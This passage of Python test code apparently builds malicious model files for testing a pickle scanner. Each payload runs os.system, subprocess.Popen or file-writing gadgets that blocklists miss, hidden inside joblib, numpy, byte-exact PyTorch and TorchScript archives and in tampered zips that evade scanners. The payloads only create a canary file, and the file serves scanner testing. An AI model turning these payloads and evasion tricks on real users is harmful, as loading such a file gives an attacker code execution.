"""Malicious model files in every container a team ships, built at test time.

Each payload is an object whose ``__reduce__`` runs a *technique* (``os.system``, a
``subprocess.Popen``, a file write through ``numpy.savetxt`` or ``logging.FileHandler`` that
blocklists miss) and creates a canary file. The containers wrap it the way the framework itself
writes them:

* joblib: a real ``joblib.dump`` (uncompressed and with every compressor joblib has), with a
  numpy array first, so the NumpyArrayWrapper and the inline array bytes precede the payload;
  and an object-dtype array, which joblib writes as a nested pickle;
* numpy: ``np.save`` of an object array, ``np.savez`` with a plain and an object member;
* PyTorch: the zip format of ``torch.save`` written byte for byte as torch 2.13 writes it
  (miniz local headers with ``FB`` padding to 64 bytes, data descriptors, zip64 end records,
  the serialization id), the legacy format (magic number, protocol version, sys info, the object
  pickle, the storage keys, raw storages) and a TorchScript archive, all without importing torch;
* tampered zips from the 2025 advisories against picklescan and modelscan, and files whose
  extension lies about their content.

``GADGETS`` are single pickles calling functions that write files or run code and that old
blocklists do not name (stdlib, numpy, scipy, scikit-learn, joblib and torch functions).

``ContainerPayload.live`` says whether the ``natural_loader`` (``run_natural_loaders`` runs it in
a child process) really creates the canary; a tampered archive that no loader reads is not live,
and a scanner must block it all the same.
"""

from __future__ import annotations

import bz2
import codecs
import collections
import gzip
import importlib
import io
import json
import logging
import lzma
import os
import pickle
import py_compile
import struct
import subprocess
import sys
import tarfile
import textwrap
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any, ClassVar, Literal

import attrs
import numpy as np

NaturalLoader = Literal["joblib", "numpy", "torch", "zip+pickle", "pickle"]


def shell(canary: str) -> str:
    return f"touch {canary}"


# -- techniques -------------------------------------------------------------------------------


class Reducer:
    """An object whose unpickling is ``func(*args)``: what an attacker plants in a model."""

    def __init__(self, func: object, *args: object) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return (self.func, self.args)


@attrs.frozen
class Technique:
    name: str
    make: Callable[[str], object]  # canary -> the object whose unpickling creates it
    blocklisted: bool  # every blocklist names its callable (os.system, subprocess)


def _lazy(module: str, name: str) -> Callable[..., Any]:
    target: Callable[..., Any] = getattr(importlib.import_module(module), name)
    return target


TECHNIQUES = (
    Technique("os.system", lambda c: Reducer(os.system, shell(c)), blocklisted=True),
    Technique("subprocess.Popen", lambda c: Reducer(subprocess.Popen, ["touch", c]), blocklisted=True),
    # a numpy function: an allowlist that admits numpy wholesale admits it
    Technique("numpy.savetxt", lambda c: Reducer(np.savetxt, c, [0.0]), blocklisted=False),
    Technique("logging.FileHandler", lambda c: Reducer(logging.FileHandler, c), blocklisted=False),
)


# -- the records ------------------------------------------------------------------------------


@attrs.frozen
class ContainerPayload:
    name: str
    build: Callable[[str], bytes]
    filename: str  # the name a victim receives it under (the extension may lie)
    natural_loader: NaturalLoader
    live: bool  # the natural loader really creates the canary
    technique: str
    blocklisted: bool  # the technique's callable is on every blocklist (os.system, subprocess)
    requires: tuple[str, ...] = ()  # modules needed to build it
    canary_suffix: str = ""  # the canary's name must end so (np.save appends ".npy")

    @property
    def load_requires(self) -> tuple[str, ...]:
        """Modules the natural loader needs, besides what building needs."""
        needed = list(self.requires)
        if self.natural_loader == "joblib":
            needed.append("joblib")
        if self.natural_loader == "torch" or self.technique.startswith("torch."):
            needed.append("torch")
        return tuple(dict.fromkeys(needed))


# -- a pickler for torch's classes, without torch -----------------------------------------------


class TorchGlobal:
    """A global named by module and name, pickled as GLOBAL without importing the module."""

    _cache: ClassVar[dict[tuple[str, str], TorchGlobal]] = {}

    def __init__(self, module: str, name: str) -> None:
        self.module = module
        self.name = name

    @classmethod
    def of(cls, module: str, name: str) -> TorchGlobal:
        """One object per name, so the pickler memoises it as torch's own pickler does."""
        return cls._cache.setdefault((module, name), cls(module, name))

    def __call__(self, *args: object) -> object:
        raise TypeError(f"{self.module}.{self.name} stands for a torch global and cannot be called")


_STORAGE_TYPES = {
    "float32": "FloatStorage",
    "float64": "DoubleStorage",
    "float16": "HalfStorage",
    "int64": "LongStorage",
    "int32": "IntStorage",
    "int16": "ShortStorage",
    "int8": "CharStorage",
    "uint8": "ByteStorage",
    "bool": "BoolStorage",
    "complex64": "ComplexFloatStorage",
    "complex128": "ComplexDoubleStorage",
}


class TorchStorage:
    def __init__(self, array: np.ndarray) -> None:
        self.data = array.astype(array.dtype.newbyteorder("<"), order="C").tobytes()
        self.numel = int(array.size)
        self.element_size = int(array.dtype.itemsize)
        self.type = TorchGlobal.of("torch", _STORAGE_TYPES[array.dtype.name])


class TorchTensor:
    """A contiguous CPU tensor, reduced the way ``torch.Tensor.__reduce_ex__`` reduces one."""

    def __init__(self, array: np.ndarray) -> None:
        self.array = array.copy(order="C")  # np.ascontiguousarray would make a 0-d array 1-d
        self.storage = TorchStorage(self.array)

    def __reduce_ex__(self, protocol: object) -> tuple[object, tuple[object, ...]]:
        shape = tuple(int(n) for n in self.array.shape)
        stride = tuple(int(s) // self.array.itemsize for s in self.array.strides)
        return (
            TorchGlobal.of("torch._utils", "_rebuild_tensor_v2"),
            (self.storage, 0, shape, stride, False, collections.OrderedDict()),
        )


class ScriptObject:
    """A TorchScript module object: ``__torch__.<cls>`` built with NEWOBJ, then BUILD."""

    def __init__(self, qualified: str, state: dict[str, object]) -> None:
        module, _, name = qualified.rpartition(".")
        self.cls = TorchGlobal.of(module, name)
        self.state = state


class TorchPickler(pickle._Pickler):
    """``pickle._Pickler`` (the pure-Python one, byte-identical to the C pickler torch uses)
    with torch's ``persistent_id`` for storages and GLOBAL for torch's names."""

    dispatch = pickle._Pickler.dispatch.copy()

    def __init__(self, file: io.BytesIO, *, legacy_keys: Iterator[str] | None = None) -> None:
        super().__init__(file, protocol=2)
        self.storages: dict[str, TorchStorage] = {}
        self._keys: dict[int, str] = {}
        self._legacy_keys = legacy_keys

    def persistent_id(self, obj: Any) -> Any:
        if not isinstance(obj, TorchStorage):
            return None
        if self._legacy_keys is None:  # torch.serialization._save
            key = self._keys.setdefault(id(obj), str(len(self._keys)))
            self.storages[key] = obj
            return ("storage", obj.type, key, "cpu", obj.numel)
        # torch.serialization._legacy_save: the key is the storage's address
        key = self._keys.setdefault(id(obj), next(self._legacy_keys))
        self.storages.setdefault(key, obj)
        return ("storage", obj.type, str(key), "cpu", obj.numel, None)


def _save_torch_global(pickler: Any, obj: TorchGlobal) -> None:
    pickler.write(pickle.GLOBAL + f"{obj.module}\n{obj.name}\n".encode())
    pickler.memoize(obj)


def _save_script_object(pickler: Any, obj: ScriptObject) -> None:
    pickler.save(obj.cls)
    pickler.write(pickle.EMPTY_TUPLE + pickle.NEWOBJ)
    pickler.memoize(obj)
    pickler.save(obj.state)
    pickler.write(pickle.BUILD)


TorchPickler.dispatch[TorchGlobal] = _save_torch_global
TorchPickler.dispatch[ScriptObject] = _save_script_object


def torch_pickle(obj: object) -> tuple[bytes, dict[str, TorchStorage]]:
    buffer = io.BytesIO()
    pickler = TorchPickler(buffer)
    pickler.dump(obj)
    return buffer.getvalue(), pickler.storages


# -- the zip writer of torch (caffe2's PyTorchStreamWriter over miniz) ------------------------

_MASK64 = (1 << 64) - 1


def _shift_mix(value: int) -> int:
    return value ^ (value >> 47)


def std_hash(data: bytes) -> int:
    """``std::hash<std::string>`` of libstdc++ on 64-bit (MurmurHash64A-like ``_Hash_bytes``)."""
    mul = (0xC6A4A793 << 32) + 0x5BD1E995
    length = len(data)
    aligned = length & ~7
    value = (0xC70F6907 ^ (length * mul)) & _MASK64
    for start in range(0, aligned, 8):
        word = int.from_bytes(data[start : start + 8], "little")
        value ^= (_shift_mix((word * mul) & _MASK64) * mul) & _MASK64
        value = (value * mul) & _MASK64
    if length & 7:
        value ^= int.from_bytes(data[aligned:], "little")
        value = (value * mul) & _MASK64
    return _shift_mix((_shift_mix(value) * mul) & _MASK64)


def hash_combine(seed: int, value: int) -> int:
    """``c10::hash_combine``."""
    return (seed ^ ((value + 0x9E3779B9 + ((seed << 6) & _MASK64) + (seed >> 2)) & _MASK64)) & _MASK64


_BUCKET_COUNTS = (13, 29, 59, 127, 257, 541, 1109, 2357, 5087)


def unordered_set_order(names: Iterable[str]) -> list[str]:
    """The iteration order of a libstdc++ ``std::unordered_set<std::string>`` after inserting
    ``names`` in turn (the writer hashes its record names in this order)."""
    hashes: dict[str, int] = {}
    following: dict[str | None, str | None] = {None: None}  # a singly linked list; None heads it
    buckets: dict[int, str | None] = {}  # bucket -> the node before its first node
    count = 0
    bucket_count = 1
    for name in names:
        if name in hashes:
            continue
        hashes[name] = std_hash(name.encode())
        if count + 1 > (0 if bucket_count == 1 else bucket_count):
            bucket_count = next(b for b in _BUCKET_COUNTS if b > bucket_count and b >= count + 1)
            node, following[None], buckets, begin_bucket = following[None], None, {}, 0
            while node is not None:
                after, bucket = following[node], hashes[node] % bucket_count
                if bucket not in buckets:
                    following[node], following[None] = following[None], node
                    buckets[bucket] = None
                    if following[node] is not None:
                        buckets[begin_bucket] = node
                    begin_bucket = bucket
                else:
                    before = buckets[bucket]
                    following[node], following[before] = following[before], node
                node = after
        bucket = hashes[name] % bucket_count
        if bucket in buckets:
            before = buckets[bucket]
            following[name], following[before] = following[before], name
        else:
            following[name], following[None] = following[None], name
            head_next = following[name]
            if head_next is not None:
                buckets[hashes[head_next] % bucket_count] = name
            buckets[bucket] = None
        count += 1
    order: list[str] = []
    node = following[None]
    while node is not None:
        order.append(node)
        node = following[node]
    return order


@attrs.define
class ZipRecord:
    """One member as written, and what each header says about it (tampering changes these)."""

    name: str  # full name, as the central directory says
    data: bytes  # the bytes stored (deflated when method is 8)
    crc: int
    size: int  # uncompressed
    method: int = 0
    offset: int = 0  # of the local header
    local_name: str | None = None  # the local header's name, when it differs
    local_flags: int = 0x0808
    central_flags: int = 0x0808
    local_sizes: tuple[int, int] = (0, 0)  # (compressed, uncompressed) in the local header
    central_sizes: tuple[int, int] | None = None  # None: the true ones
    central_crc: int | None = None  # None: the true one, also in the data descriptor
    in_central: bool = True


class TorchZipWriter:
    """``caffe2::serialize::PyTorchStreamWriter`` of torch 2.13: each record's data aligned on
    64 bytes by an ``FB`` extra field of ``Z`` bytes, bit 3 set and a 16-byte data descriptor,
    no times, a zip64 end record and locator, then ``version``, ``byteorder`` if missing and
    ``.data/serialization_id`` (record name hashes and data CRCs, combined)."""

    alignment = 64

    def __init__(self, archive: str = "archive") -> None:
        self.archive = archive
        self.out = bytearray()
        self.records: list[ZipRecord] = []
        self.written: list[str] = []  # short names, in order
        self.combined_crc = 0

    def write(self, name: str, data: bytes | str, *, compress: bool = False, **tamper: Any) -> ZipRecord:
        raw = data.encode() if isinstance(data, str) else data
        full = f"{self.archive}/{name}"
        crc = zlib.crc32(raw)
        stored = raw
        method = 0
        if compress:
            deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
            stored = deflate.compress(raw) + deflate.flush()
            method = 8
        record = ZipRecord(full, stored, crc, len(raw), method, offset=len(self.out), **tamper)
        local_name = (record.local_name or full).encode()
        start = record.offset + 30 + len(local_name) + 4
        padding = -start % self.alignment
        extra = b"FB" + struct.pack("<H", padding) + b"Z" * padding
        compressed, uncompressed = record.local_sizes
        self.out += struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            20 if method else 0,
            record.local_flags,
            method,
            0,
            0,
            0,
            compressed,
            uncompressed,
            len(local_name),
            len(extra),
        )
        self.out += local_name + extra + stored
        descriptor_crc = crc if record.central_crc is None else record.central_crc
        self.out += struct.pack("<IIII", 0x08074B50, descriptor_crc, len(stored), len(raw))
        self.combined_crc = hash_combine(self.combined_crc, descriptor_crc)
        self.records.append(record)
        self.written.append(name)
        return record

    def finish(self, *, serialization_id: bool = True) -> bytes:
        if "version" not in self.written and ".data/version" not in self.written:
            self.write("version", "3\n")
        if "byteorder" not in self.written:
            self.write("byteorder", sys.byteorder)
        if serialization_id:
            combined = 0
            for name in unordered_set_order(self.written):
                combined = hash_combine(combined, std_hash(name.encode()))
            self.write(".data/serialization_id", f"{combined:020d}{self.combined_crc:020d}")
        central_start = len(self.out)
        entries = [r for r in self.records if r.in_central]
        for record in entries:
            encoded = record.name.encode()
            compressed, uncompressed = record.central_sizes or (len(record.data), record.size)
            self.out += struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                0,
                20 if record.method else 0,
                record.central_flags,
                record.method,
                0,
                0,
                record.crc if record.central_crc is None else record.central_crc,
                compressed,
                uncompressed,
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                record.offset,
            )
            self.out += encoded
        central_size = len(self.out) - central_start
        zip64_end = len(self.out)
        count = len(entries)
        self.out += struct.pack(
            "<IQHHIIQQQQ", 0x06064B50, 44, 0x031E, 0x2D, 0, 0, count, count, central_size, central_start
        )
        self.out += struct.pack("<IIQI", 0x07064B50, 0, zip64_end, 1)
        self.out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, central_size, central_start, 0)
        return bytes(self.out)


def torch_save(obj: object, archive: str = "archive", *, pickle_name: str = "data.pkl") -> bytes:
    """What ``torch.save(obj, f)`` writes (``archive`` is the file's stem; ``archive`` for a
    buffer)."""
    data, storages = torch_pickle(obj)
    writer = TorchZipWriter(archive)
    writer.write(pickle_name, data)
    writer.write(".format_version", "1")
    writer.write(".storage_alignment", "64")
    writer.write("byteorder", sys.byteorder)
    for key, storage in storages.items():
        writer.write(f"data/{key}", storage.data)
    return writer.finish()


MAGIC_NUMBER = 0x1950A86A20F9469CFC6C
PROTOCOL_VERSION = 1001


def _addresses() -> Iterator[str]:
    address = 0x5605_3A1C_2E40
    while True:
        yield str(address)
        address += 0x1F0


def torch_legacy_save(obj: object, keys: Sequence[str] | None = None) -> bytes:
    """What ``torch.save(obj, f, _use_new_zipfile_serialization=False)`` writes: magic number,
    protocol version and sys info pickles, the object pickle, the sorted storage keys, then
    each storage as its element count (int64) and raw bytes. ``keys`` are the storages'
    addresses, in the order the pickler meets them."""
    out = io.BytesIO()
    for header in (
        MAGIC_NUMBER,
        PROTOCOL_VERSION,
        {
            "protocol_version": PROTOCOL_VERSION,
            "little_endian": sys.byteorder == "little",
            "type_sizes": {"short": 2, "int": 4, "long": 4},
        },
    ):
        pickle.dump(header, out, protocol=2)
    pickler = TorchPickler(out, legacy_keys=iter(keys) if keys is not None else _addresses())
    pickler.dump(obj)
    ordered = sorted(pickler.storages)
    pickle.dump(ordered, out, protocol=2)
    for key in ordered:
        storage = pickler.storages[key]
        out.write(struct.pack("<q", len(storage.data) // storage.element_size) + storage.data)
    return out.getvalue()


def state_dict(
    extra: Mapping[str, object] | None = None, *, first: Mapping[str, object] | None = None
) -> collections.OrderedDict[str, object]:
    """A small module's ``state_dict()``: tensors, ``_metadata``, and whatever an attacker adds
    after them (``extra``) or before them (``first``: a plain ``pickle.loads`` then runs it
    before it stops at the first persistent id)."""
    rng = np.random.default_rng(7)
    tensors: collections.OrderedDict[str, object] = collections.OrderedDict(first or {})
    tensors["conv.weight"] = TorchTensor(rng.normal(size=(8, 3, 3)).astype(np.float32))
    tensors["conv.bias"] = TorchTensor(np.zeros(8, dtype=np.float32))
    tensors["bn.running_mean"] = TorchTensor(np.zeros(8, dtype=np.float32))
    tensors["bn.num_batches_tracked"] = TorchTensor(np.array(12, dtype=np.int64))
    tensors["fc.weight"] = TorchTensor(rng.normal(size=(4, 8)).astype(np.float32))
    tensors.update(extra or {})
    metadata = collections.OrderedDict(
        [("", {"version": 1}), ("conv", {"version": 1}), ("bn", {"version": 2}), ("fc", {"version": 1})]
    )
    setattr(tensors, "_metadata", metadata)  # noqa: B010 (as nn.Module.state_dict does)
    return tensors


TORCHSCRIPT_SOURCE = textwrap.dedent(
    """\
    class Scaler(Module):
      __parameters__ = ["weight", ]
      __buffers__ = []
      weight : Tensor
      training : bool
      _is_full_backward_hook : Optional[bool]
      def forward(self: __torch__.Scaler,
        x: Tensor) -> Tensor:
        weight = self.weight
        return torch.mul(x, weight)
    """
)


def torchscript_archive(constants: object = (), archive: str = "scaler") -> bytes:
    """A TorchScript archive in ``torch.jit.save``'s record order: storages, ``data.pkl`` (the
    module object), the compiled source, ``constants.pkl``, version, byte order and id."""
    weight = TorchTensor(np.array([1.0, 2.0, 3.0], dtype=np.float32))
    module = ScriptObject(
        "__torch__.Scaler", {"training": False, "_is_full_backward_hook": None, "weight": weight}
    )
    data, storages = torch_pickle(module)
    constants_pickle, _ = torch_pickle(constants)
    writer = TorchZipWriter(archive)
    for key, storage in storages.items():
        writer.write(f"data/{key}", storage.data)
    writer.write("data.pkl", data)
    writer.write("code/__torch__.py", TORCHSCRIPT_SOURCE, compress=True)
    writer.write("constants.pkl", constants_pickle)
    writer.write("version", "3\n")
    return writer.finish()


# -- joblib and numpy -------------------------------------------------------------------------


JOBLIB_COMPRESSORS = ("zlib", "gzip", "bz2", "lzma", "xz", "lz4")
_JOBLIB_SUFFIX = {"zlib": ".z", "gzip": ".gz", "bz2": ".bz2", "lzma": ".lzma", "xz": ".xz", "lz4": ".lz4"}


def joblib_dump(value: object, compress: str | None = None, level: int = 3) -> bytes:
    """A real ``joblib.dump`` into a buffer."""
    joblib = importlib.import_module("joblib")
    buffer = io.BytesIO()
    joblib.dump(value, buffer, compress=(compress, level) if compress else 0)
    return buffer.getvalue()


def _model_dict(evil: object) -> dict[str, object]:
    # the array comes first: its NumpyArrayWrapper and inline bytes precede the payload
    return {"coef": np.linspace(-1.0, 1.0, 48).reshape(6, 8), "classes": ["a", "b"], "estimator": evil}


def object_array(evil: object) -> np.ndarray:
    array = np.empty(3, dtype=object)
    array[:] = ["label-0", evil, "label-2"]
    return array


def np_save(array: np.ndarray) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def np_savez(**arrays: np.ndarray) -> bytes:
    buffer = io.BytesIO()
    np.savez(buffer, allow_pickle=True, **arrays)
    return buffer.getvalue()


# -- tampered zips ----------------------------------------------------------------------------


def _torch_with(evil: object, **tamper: Any) -> bytes:
    """``torch_save`` of a state dict carrying the payload, its data.pkl record tampered."""
    data, storages = torch_pickle(state_dict({"fc._extra_state": evil}))
    writer = TorchZipWriter()
    writer.write("data.pkl", data, **tamper)
    writer.write(".format_version", "1")
    writer.write(".storage_alignment", "64")
    writer.write("byteorder", sys.byteorder)
    for key, storage in storages.items():
        writer.write(f"data/{key}", storage.data)
    return writer.finish()


def _torch_duplicated(evil: object, *, malicious_first: bool) -> bytes:
    data, storages = torch_pickle(state_dict({"fc._extra_state": evil}))
    benign, _ = torch_pickle(state_dict())
    writer = TorchZipWriter()
    for pickled in (data, benign) if malicious_first else (benign, data):
        writer.write("data.pkl", pickled)
    writer.write(".format_version", "1")
    writer.write(".storage_alignment", "64")
    writer.write("byteorder", sys.byteorder)
    for key, storage in storages.items():
        writer.write(f"data/{key}", storage.data)
    return writer.finish()


def _torch_local_only(evil: object) -> bytes:
    """A benign archive plus a malicious ``data.pkl`` that only a local header announces."""
    malicious, _ = torch_pickle(state_dict({"fc._extra_state": evil}))
    benign, storages = torch_pickle(state_dict())
    writer = TorchZipWriter()
    writer.write("data.pkl", malicious, in_central=False)
    writer.write("data.pkl", benign)
    writer.write(".format_version", "1")
    writer.write(".storage_alignment", "64")
    writer.write("byteorder", sys.byteorder)
    for key, storage in storages.items():
        writer.write(f"data/{key}", storage.data)
    return writer.finish()


def _central_size_short(evil: object) -> bytes:
    """The central directory says data.pkl ends just after the payload's REDUCE."""
    data, _ = torch_pickle(state_dict({"fc._extra_state": evil}))
    cut = data.rindex(pickle.REDUCE) + 1
    return _torch_with(evil, central_sizes=(cut, cut))


# -- the containers ---------------------------------------------------------------------------


@attrs.frozen
class Container:
    name: str
    wrap: Callable[[object], bytes]  # the payload object -> the file's bytes
    filename: str
    natural_loader: NaturalLoader
    live: bool = True
    requires: tuple[str, ...] = ()


def _joblib_compressed(method: str) -> Callable[[object], bytes]:
    return lambda evil: joblib_dump(_model_dict(evil), method)


def _containers() -> list[Container]:
    containers = [Container("joblib.dump", lambda e: joblib_dump(_model_dict(e)), "model.joblib", "joblib")]
    containers += [
        Container(
            f"joblib.dump compress={method}",
            _joblib_compressed(method),
            f"model.joblib{_JOBLIB_SUFFIX[method]}",
            "joblib",
            requires=("lz4",) if method == "lz4" else (),
        )
        for method in JOBLIB_COMPRESSORS
    ]
    containers += [
        Container(
            "joblib.dump of an object array (nested pickle)",
            lambda e: joblib_dump({"bias": np.zeros(4), "labels": object_array(e)}),
            "labels.joblib",
            "joblib",
        ),
        Container("np.save of an object array", lambda e: np_save(object_array(e)), "labels.npy", "numpy"),
        Container(
            "np.savez with a plain and an object member",
            lambda e: np_savez(weights=np.arange(12.0).reshape(3, 4), labels=object_array(e)),
            "arrays.npz",
            "numpy",
        ),
        Container(
            "torch.save zip format",
            lambda e: torch_save(state_dict({"fc._extra_state": e}), "model"),
            "model.pt",
            "torch",
        ),
        Container(
            "torch.save zip with the archive folder renamed",
            lambda e: torch_save(state_dict({"fc._extra_state": e}), "checkpoint_final_v2"),
            "model.pt",
            "torch",
        ),
        Container(
            "torch zip with the pickle member renamed weights.bin",
            lambda e: torch_save(state_dict(first={"_extra_state": e}), pickle_name="weights.bin"),
            "model.pt",
            "zip+pickle",  # torch.load looks for data.pkl and fails; a member-unpickling tool runs it
        ),
        Container(
            "torch.save legacy format",
            lambda e: torch_legacy_save(state_dict({"fc._extra_state": e})),
            "model_legacy.pt",
            "torch",
        ),
        Container(
            "TorchScript archive with the payload in constants.pkl",
            lambda e: torchscript_archive(constants=(e,)),
            "scripted.pt",
            "zip+pickle",  # torch.jit.load reads constants.pkl with its own unpickler, which refuses
        ),
        Container(
            "tampered zip: local and central names differ",
            lambda e: _torch_with(e, local_name="archive/data.txt"),
            "model.pt",
            "torch",
        ),
        Container(
            "tampered zip: local header sizes lie",
            lambda e: _torch_with(e, local_flags=0x0800, local_sizes=(1, 1)),
            "model.pt",
            "torch",
        ),
        Container(
            "tampered zip: central sizes end after the payload",
            _central_size_short,
            "model.pt",
            "torch",
        ),
        Container(
            "tampered zip: encrypted bit only in the central directory",
            lambda e: _torch_with(e, central_flags=0x0809),
            "model.pt",
            "torch",
            live=False,  # miniz and zipfile both refuse a member the directory says is encrypted
        ),
        Container(
            "tampered zip: encrypted bit only in the local header",
            lambda e: _torch_with(e, local_flags=0x0809),
            "model.pt",
            "torch",
        ),
        Container(
            "tampered zip: bad CRC on the pickle member",
            lambda e: _torch_with(e, central_crc=0x0BADC0DE),
            "model.pt",
            "torch",  # torch builds miniz without CRC checks; zipfile raises
        ),
        Container(
            "tampered zip: data.pkl twice, benign first",
            lambda e: _torch_duplicated(e, malicious_first=False),
            "model.pt",
            "torch",
        ),
        Container(
            "tampered zip: data.pkl twice, malicious first",
            lambda e: _torch_duplicated(e, malicious_first=True),
            "model.pt",
            "torch",
            live=False,  # torch (and zipfile, by name) read the last entry of a name
        ),
        Container(
            "tampered zip: malicious member only in a local header",
            _torch_local_only,
            "model.pt",
            "torch",
            live=False,  # every reader goes by the central directory
        ),
        Container(
            "torch zip with data prepended",
            lambda e: b"\x00" * 100 + torch_save(state_dict(first={"_extra_state": e})),
            "model.pt",
            "zip+pickle",  # torch.load wants PK at offset 0; zipfile finds the archive anyway
        ),
        Container(
            "raw pickle named model.safetensors",
            lambda e: pickle.dumps({"weight": [0.5, 0.25], "config": e}, protocol=4),
            "model.safetensors",
            "pickle",
        ),
        Container(
            "raw pickle named weights.bin",
            lambda e: pickle.dumps({"weight": [0.5, 0.25], "config": e}, protocol=2),
            "weights.bin",
            "torch",  # torch.load unpickles the first pickle, looking for its magic number
        ),
        Container(
            "raw pickle named model.pt",
            lambda e: pickle.dumps(collections.OrderedDict(w=[1.0], extra=e), protocol=2),
            "model.pt",
            "torch",
        ),
        Container(
            "torch zip named model.pkl",
            lambda e: torch_save(state_dict({"fc._extra_state": e}), "model"),
            "model.pkl",
            "torch",
        ),
    ]
    return containers


CONTAINERS = _containers()


def _compose(container: Container, technique: Technique) -> ContainerPayload:
    def build(canary: str) -> bytes:
        return container.wrap(technique.make(canary))

    return ContainerPayload(
        name=f"{container.name} / {technique.name}",
        build=build,
        filename=container.filename,
        natural_loader=container.natural_loader,
        live=container.live,
        technique=technique.name,
        blocklisted=technique.blocklisted,
        requires=container.requires,
    )


CONTAINER_PAYLOADS = [_compose(c, t) for c in CONTAINERS for t in TECHNIQUES]


# -- gadgets ----------------------------------------------------------------------------------


def _gadget(
    name: str,
    make: Callable[[str], object] | Callable[[str], bytes],
    *,
    requires: tuple[str, ...] = (),
    canary_suffix: str = "",
    raw: bool = False,
) -> ContainerPayload:
    def build(canary: str) -> bytes:
        made = make(canary)
        if raw:
            assert isinstance(made, bytes)
            return made
        return pickle.dumps(made, protocol=4)

    return ContainerPayload(
        name=f"gadget {name}",
        build=build,
        filename="gadget.pkl",
        natural_loader="pickle",
        live=True,
        technique=name,
        blocklisted=False,
        requires=requires,
        canary_suffix=canary_suffix,
    )


def _binunicode(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _call_by_name(module: str, name: str, *args: bytes) -> bytes:
    """``module.name(*args)`` as a protocol-2 pickle written by hand: nothing is imported (torch
    need not be installed; ``_pyio.open`` is a staticmethod that pickle cannot name)."""
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"(" + b"".join(args) + b"tR."


def _fitted_tree() -> object:
    from sklearn.tree import DecisionTreeClassifier

    return DecisionTreeClassifier(max_depth=1).fit([[0.0], [1.0]], [0, 1])


def _sparse_identity() -> object:
    from scipy import sparse

    return sparse.csr_matrix(np.eye(2))


def _build_gadgets() -> list[ContainerPayload]:
    return [
        _gadget("codecs.open", lambda c: Reducer(codecs.open, c, "w")),
        _gadget(
            "_pyio.open", lambda c: _call_by_name("_pyio", "open", _binunicode(c), _binunicode("w")), raw=True
        ),
        _gadget("io.FileIO", lambda c: Reducer(io.FileIO, c, "w")),
        _gadget("logging.FileHandler", lambda c: Reducer(logging.FileHandler, c)),
        _gadget("py_compile.compile", lambda c: Reducer(py_compile.compile, os.devnull, c)),
        _gadget("zipfile.ZipFile", lambda c: Reducer(zipfile.ZipFile, c, "w")),
        _gadget("tarfile.TarFile", lambda c: Reducer(tarfile.TarFile, c, "w")),
        _gadget("gzip.open", lambda c: Reducer(gzip.open, c, "wb")),
        _gadget("bz2.BZ2File", lambda c: Reducer(bz2.BZ2File, c, "w")),
        _gadget("lzma.open", lambda c: Reducer(lzma.open, c, "wb")),
        _gadget("numpy.savetxt", lambda c: Reducer(np.savetxt, c, [0.0])),
        _gadget("numpy.save", lambda c: Reducer(np.save, c, [0.0]), canary_suffix=".npy"),
        _gadget("numpy.memmap", lambda c: Reducer(np.memmap, c, "uint8", "w+", 0, (1,))),
        _gadget(
            "numpy.lib.format.open_memmap",
            lambda c: Reducer(_lazy("numpy.lib.format", "open_memmap"), c, "w+", "<f8", (1,)),
        ),
        _gadget(
            "numpy.testing runstring",
            lambda c: Reducer(
                _lazy("numpy.testing._private.utils", "runstring"), f"open({c!r}, 'w').close()", {}
            ),
        ),
        _gadget(
            "scipy.io.savemat",
            lambda c: Reducer(_lazy("scipy.io", "savemat"), c, {"a": [1.0]}, False),
            requires=("scipy",),
        ),
        _gadget(
            "scipy.sparse.save_npz",
            lambda c: Reducer(_lazy("scipy.sparse", "save_npz"), c, _sparse_identity()),
            requires=("scipy",),
            canary_suffix=".npz",
        ),
        _gadget(
            "sklearn.tree.export_graphviz",
            lambda c: Reducer(_lazy("sklearn.tree", "export_graphviz"), _fitted_tree(), c),
            requires=("sklearn",),
        ),
        _gadget(
            "sklearn.datasets.dump_svmlight_file",
            lambda c: Reducer(
                _lazy("sklearn.datasets", "dump_svmlight_file"), np.eye(2), np.array([0, 1]), c
            ),
            requires=("sklearn",),
        ),
        _gadget(
            "joblib.dump",
            lambda c: Reducer(_lazy("joblib", "dump"), {"weights": [1.0]}, c),
            requires=("joblib",),
        ),
        _gadget(
            "torch.serialization.save",
            lambda c: _call_by_name("torch.serialization", "save", b"}", _binunicode(c)),
            raw=True,
        ),
        _gadget(
            "torch.utils.collect_env.run",
            lambda c: _call_by_name("torch.utils.collect_env", "run", _binunicode(shell(c))),
            raw=True,
        ),
    ]


GADGETS = _build_gadgets()


def canary_for(payload: ContainerPayload, folder: Path) -> Path:
    return folder / f"canary{payload.canary_suffix}"


def build_for(payload: ContainerPayload, canary: Path) -> bytes:
    """The payload's bytes for this canary (suffix-appending writers get the stem)."""
    target = str(canary)
    if payload.canary_suffix:
        target = target.removesuffix(payload.canary_suffix)
    return payload.build(target)


# -- the natural loaders, run in a child process ----------------------------------------------

LOADERS_SOURCE = textwrap.dedent(
    """
    import json, os, pickle, re, sys, zipfile

    TEXT = re.compile(r"(^|/)(version|\\.format_version|\\.storage_alignment|byteorder"
                      r"|\\.data/serialization_id|data/\\d+|code/.*\\.py)$")

    def load(loader, path):
        if loader == "pickle":
            with open(path, "rb") as f:
                pickle.load(f)
        elif loader == "joblib":
            import joblib
            joblib.load(path)
        elif loader == "numpy":
            import numpy
            loaded = numpy.load(path, allow_pickle=True)
            if hasattr(loaded, "files"):
                for key in loaded.files:
                    loaded[key]
        elif loader == "torch":
            import torch
            torch.load(path, weights_only=False, map_location="cpu")
        elif loader == "zip+pickle":
            with zipfile.ZipFile(path) as archive:
                for info in archive.infolist():
                    if TEXT.search(info.filename):
                        continue
                    try:
                        pickle.loads(archive.read(info))
                    except Exception:
                        pass
        else:
            raise ValueError(loader)

    results = {}
    for job in json.load(sys.stdin):
        try:
            load(job["loader"], job["path"])
            results[job["path"]] = "loaded"
        except BaseException as error:
            results[job["path"]] = f"{type(error).__name__}: {error}"[:300]
    while True:  # let every process a payload started finish
